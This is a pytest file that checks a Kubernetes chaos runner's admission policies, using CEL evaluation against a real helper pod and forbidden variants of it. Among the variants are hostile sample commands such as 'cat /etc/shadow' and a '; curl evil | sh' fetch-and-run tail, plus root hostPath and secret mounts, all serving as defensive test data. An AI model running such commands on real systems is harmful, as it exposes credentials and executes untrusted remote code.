"""The chaos runner's admission policies, evaluated offline with a CEL runtime.

The policies (manifests/base/chaos/admission.yaml) are what keeps the runner's `create pods`
in the privileged chaos namespace from being root on any node. Each expression is run with
cel-python against the helper pod probes.kubernetes really builds (allowed) and against forbidden
variations of it, the way the API server evaluates a ValidatingAdmissionPolicy: matchConditions
first, then `variables`, then every validation must be true.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import celpy
import kubernetes_validate
import pytest

from probes.k8s import config as check
from probes.k8s import model
from probes.k8s.network.actions import _partition_policy
from probes.k8s.node import commands
from tests.manifests._k8s import BASE, KUBERNETES_VERSION, Obj, load_yaml_documents, render

POLICIES = BASE / "chaos" / "admission.yaml"
RUNNER = "system:serviceaccount:chaos:chaos-runner"
_ENV = celpy.Environment()


def _policy(name: str) -> Obj:
    for doc in load_yaml_documents(POLICIES):
        if doc["kind"] == "ValidatingAdmissionPolicy" and doc["metadata"]["name"] == name:
            return doc
    raise AssertionError(f"no ValidatingAdmissionPolicy {name} in {POLICIES}")


def _eval(expression: str, activation: dict[str, Any]) -> Any:
    program = _ENV.program(_ENV.compile(expression))
    return program.evaluate(activation)


def admitted(
    policy: Obj,
    operation: str,
    new: Obj | None,
    old: Obj | None = None,
    user: str = RUNNER,
    sub_resource: str = "",
) -> list[str]:
    """The messages of the validations that fail; [] if the request is admitted.

    A request the matchConditions do not select is admitted without validations.
    """
    namespace = ((new or old or {}).get("metadata") or {}).get("namespace", "")
    request = {
        "operation": operation,
        "userInfo": {"username": user},
        "subResource": sub_resource,
        "namespace": namespace,  # the API server's request namespace (from the URL)
    }
    activation: dict[str, Any] = {
        "request": celpy.json_to_cel(request),
        "object": celpy.json_to_cel(new),
        "oldObject": celpy.json_to_cel(old),
    }
    spec = policy["spec"]
    if not all(bool(_eval(c["expression"], activation)) for c in spec.get("matchConditions", [])):
        return []
    variables: dict[str, Any] = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(variables)
        variables[celpy.celtypes.StringType(variable["name"])] = _eval(
            variable["expression"], activation
        )
    activation["variables"] = celpy.celtypes.MapType(variables)
    failed = []
    for rule in spec["validations"]:
        result = _eval(rule["expression"], activation)
        if not (isinstance(result, celpy.celtypes.BoolType) and bool(result)):
            failed.append(rule.get("message") or rule.get("messageExpression", "?"))
    return failed


def helper_pod(duration: int = 120, node: str = "chaos-worker") -> Obj:
    """The pod probes.kubernetes sends, with the default (pinned) helper image."""
    return commands.helper_pod_manifest(node, "chaos", check.DEFAULT_HELPER_IMAGE, duration)


# -- the helper pod policy ---------------------------------------------------------------------
@pytest.mark.parametrize("duration", [1, 120, 300, 86_400])
def test_the_real_helper_pod_is_admitted(duration: int) -> None:
    """Every helper pod probes.kubernetes can build passes every validation."""
    assert admitted(_policy("chaos-runner-helper-pod"), "CREATE", helper_pod(duration)) == []


def test_policy_image_is_the_default_helper_image() -> None:
    """The image the policy admits is the code's default, pinned by digest."""
    (variable,) = [
        v
        for v in _policy("chaos-runner-helper-pod")["spec"]["variables"]
        if v["name"] == "helperImage"
    ]
    assert _eval(variable["expression"], {}) == check.DEFAULT_HELPER_IMAGE
    assert "@sha256:" in check.DEFAULT_HELPER_IMAGE


def _edit(change: Callable[[Obj], None]) -> Obj:
    pod = copy.deepcopy(helper_pod())
    change(pod)
    return pod


def _container(pod: Obj) -> Obj:
    container: Obj = pod["spec"]["containers"][0]
    return container


FORBIDDEN_PODS: dict[str, Callable[[Obj], None]] = {
    "other image": lambda p: _container(p).update(image="alpine:3.20"),
    "same tag, other digest": lambda p: _container(p).update(
        image="debian:12.9-slim@sha256:" + "0" * 64
    ),
    "tag only": lambda p: _container(p).update(image="debian:12.9-slim"),
    "other command": lambda p: _container(p).update(command=["sh", "-c", "cat /etc/shadow"]),
    "script with a tail": lambda p: _container(p)["command"].__setitem__(
        2, _container(p)["command"][2] + "; curl evil | sh"
    ),
    "args added": lambda p: _container(p).update(args=["x"]),
    "hostPath volume": lambda p: (
        p["spec"].update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
        _container(p).update(volumeMounts=[{"name": "root", "mountPath": "/host"}]),
    ),
    "secret volume": lambda p: p["spec"].update(
        volumes=[{"name": "s", "secret": {"secretName": "checker-mysql"}}]
    ),
    "secret env": lambda p: _container(p).update(
        env=[{"name": "P", "valueFrom": {"secretKeyRef": {"name": "checker-mysql", "key": "k"}}}]
    ),
    "service account token": lambda p: p["spec"].update(automountServiceAccountToken=True),
    "second container": lambda p: p["spec"]["containers"].append(copy.deepcopy(_container(p))),
    "init container": lambda p: p["spec"].update(initContainers=[copy.deepcopy(_container(p))]),
    "hostNetwork": lambda p: p["spec"].update(hostNetwork=True),
    "hostIPC": lambda p: p["spec"].update(hostIPC=True),
    "no hostPID": lambda p: p["spec"].update(hostPID=False),
    "not pinned to a node": lambda p: p["spec"].pop("nodeName"),
    "tolerates everything": lambda p: p["spec"]["tolerations"].append({"operator": "Exists"}),
    "tolerates NoSchedule": lambda p: p["spec"]["tolerations"].append(
        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}
    ),
    "other labels": lambda p: p["metadata"].update(labels={"app": "x"}),
    "other namespace": lambda p: p["metadata"].update(namespace="mysql"),
}


@pytest.mark.parametrize("case", sorted(FORBIDDEN_PODS))
def test_forbidden_pods_are_denied(case: str) -> None:
    """A pod that differs from the helper in one forbidden way fails at least one validation."""
    pod = _edit(FORBIDDEN_PODS[case])
    assert admitted(_policy("chaos-runner-helper-pod"), "CREATE", pod) != [], case


def test_pod_changes_are_denied() -> None:
    """The runner never updates a pod, nor adds an ephemeral container to one."""
    policy = _policy("chaos-runner-helper-pod")
    pod = helper_pod()
    assert admitted(policy, "UPDATE", pod, pod) != []
    assert admitted(policy, "UPDATE", pod, pod, sub_resource="ephemeralcontainers") != []


def test_other_users_are_not_judged_by_the_policy() -> None:
    """Someone else's pods (e.g. the CronJob's) are outside the policy's matchConditions."""
    pod = _edit(FORBIDDEN_PODS["other image"])
    other = "system:serviceaccount:kube-system:job-controller"
    assert admitted(_policy("chaos-runner-helper-pod"), "CREATE", pod, user=other) == []


# -- the node taint policy ---------------------------------------------------------------------
def _node(taints: list[Obj] | None, **labels: str) -> Obj:
    node: Obj = {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": "chaos-worker", "labels": {"kubernetes.io/hostname": "w", **labels}},
        "spec": {"podCIDR": "10.244.1.0/24", "providerID": "kind://docker/chaos/chaos-worker"},
    }
    if taints is not None:
        node["spec"]["taints"] = taints
    return node


UNREACHABLE = {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute"}


@pytest.mark.parametrize("before", [None, [], [UNREACHABLE]])
def test_adding_and_removing_the_out_of_service_taint_is_admitted(before: list[Obj] | None) -> None:
    """The taint edits probes.kubernetes makes pass, whatever other taints the node had."""
    policy = _policy("chaos-runner-node-taint")
    old = _node(before)
    added = _node(model.with_out_of_service(list(before or [])))
    assert admitted(policy, "UPDATE", added, old) == []
    removed = _node(model.without_out_of_service(added["spec"]["taints"]))
    assert admitted(policy, "UPDATE", removed, added) == []


FORBIDDEN_NODE_EDITS: dict[str, tuple[Obj, Obj]] = {
    "drops another taint": (_node([UNREACHABLE]), _node([])),
    "adds another taint": (_node([]), _node([{"key": "x", "effect": "NoSchedule"}])),
    "out-of-service as NoSchedule": (
        _node([]),
        _node([{"key": "node.kubernetes.io/out-of-service", "effect": "NoSchedule"}]),
    ),
    "changes a label": (_node([]), _node([], role="db")),
    "cordons": (_node([]), {**_node([]), "spec": {**_node([])["spec"], "unschedulable": True}}),
}


@pytest.mark.parametrize("case", sorted(FORBIDDEN_NODE_EDITS))
def test_other_node_edits_are_denied(case: str) -> None:
    """Any node change but the out-of-service taint is refused."""
    old, new = FORBIDDEN_NODE_EDITS[case]
    assert admitted(_policy("chaos-runner-node-taint"), "UPDATE", new, old) != [], case


def test_node_status_and_deletes_are_denied() -> None:
    """The runner cannot write node status or delete a node."""
    policy = _policy("chaos-runner-node-taint")
    node = _node([])
    assert admitted(policy, "UPDATE", node, node, sub_resource="status") != []
    assert admitted(policy, "DELETE", None, node) != []


# -- the NetworkPolicy policy ------------------------------------------------------------------
def test_own_partition_policy_create_and_delete_are_admitted() -> None:
    """The policy partition_pod builds can be created and deleted."""
    policy = _policy("chaos-runner-networkpolicies")
    ours = _partition_policy("mysql-1", "mysql")
    assert admitted(policy, "CREATE", ours) == []
    assert admitted(policy, "DELETE", None, ours) == []


def test_deleting_someone_elses_networkpolicy_is_denied() -> None:
    """A team's own NetworkPolicy (e.g. the checker's) cannot be deleted by the runner."""
    policy = _policy("chaos-runner-networkpolicies")
    theirs = {"metadata": {"name": "checker", "namespace": "mysql", "labels": {"app": "checker"}}}
    assert admitted(policy, "DELETE", None, theirs) != []
    unlabelled = {"metadata": {"name": "chaos-partition-mysql-1", "namespace": "mysql"}}
    assert admitted(policy, "DELETE", None, unlabelled) != []
    ours = _partition_policy("mysql-1", "mysql")
    assert admitted(policy, "UPDATE", ours, ours) != []


# -- schemas -----------------------------------------------------------------------------------
def test_policies_validate_against_the_schemas_and_render() -> None:
    """Every policy and binding is a valid object, bound by name, and part of the base render."""
    docs = load_yaml_documents(POLICIES)
    for doc in docs:
        kubernetes_validate.validate(doc, KUBERNETES_VERSION, strict=True)
    policies = {d["metadata"]["name"] for d in docs if d["kind"] == "ValidatingAdmissionPolicy"}
    bindings = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"]
    assert policies == {b["spec"]["policyName"] for b in bindings}
    assert all(b["spec"]["validationActions"] == ["Deny"] for b in bindings)
    rendered = {(o["kind"], o["metadata"]["name"]) for o in render(BASE)}
    assert {("ValidatingAdmissionPolicy", n) for n in policies} <= rendered
    assert all(d["spec"]["failurePolicy"] == "Fail" for d in docs if d["kind"].endswith("Policy"))
